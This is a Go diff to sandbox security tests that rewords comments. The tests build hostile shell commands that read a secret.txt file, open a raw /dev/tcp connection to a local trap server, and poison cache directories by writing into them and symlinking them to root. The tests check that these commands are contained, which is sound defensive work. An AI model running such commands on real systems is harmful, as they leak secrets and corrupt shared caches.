@@ -16,7 +16,7 @@ import (
 	"github.com/bobbinhq/bobbin/repo/testrun"
 )
 
-// hostileCode wants to be built and tested, which is how it comes to run.
+// hostileCode is code that runs when the repository is built or tested.
 func hostileCode() []hostile {
 	return []hostile{
 		{
@@ -80,8 +80,8 @@ func hostileCode() []hostile {
 	}
 }
 
-// attack does at once what the code of strangers may try: leave a file outside, read one,
-// and talk to somebody, with what can be had of credentials.
+// attack returns a shell command that tries what hostile code may try: to leave a file outside, to read one,
+// and to contact a server.
 func (l *lab) attack(name string) string {
 	host := strings.TrimPrefix(l.trap.url, "http://")
 	return fmt.Sprintf(`%s; cat %s/secret.txt; bash -c "exec 3<>/dev/tcp/%s && echo GET / HTTP/1.0 >&3 && echo >&3 && cat <&3"; true`,
@@ -103,7 +103,7 @@ func playCode(t testing.TB, l *lab) {
 	require.NoError(t, l.bench.Workspace.Restore(t.Context(), ""))
 }
 
-// naiveCheck runs the same tests by the same code, without a sandbox.
+// naiveCheck runs the same tests with the same code, but without a sandbox.
 func naiveCheck(l *lab, dir string) {
 	none, err := sandbox.Open(l.t.Context(), sandbox.Config{Kind: sandbox.KindNone})
 	require.NoError(l.t, err)
@@ -115,8 +115,8 @@ func naiveCheck(l *lab, dir string) {
 	require.Subset(l.t, l.found(), []string{executed, touched, asked})
 }
 
-// playPoison lets a command write into every cache that it is shown: it has one of its
-// own, and nobody else sees that.
+// playPoison lets a command write into every cache that it can see. The command has its own cache, which no
+// other command sees.
 func playPoison(t testing.TB, l *lab) {
 	const poison = `for d in $(env | grep '^[A-Z]*CACHE=' | cut -d= -f2) /cache/*; do echo poison > "$d/00/poison" || echo poison > "$d/poison"; ln -s / "$d/ff/poison"; done; echo tried`
 	require.Contains(t, l.ask("run", args{"command": poison}), "tried")
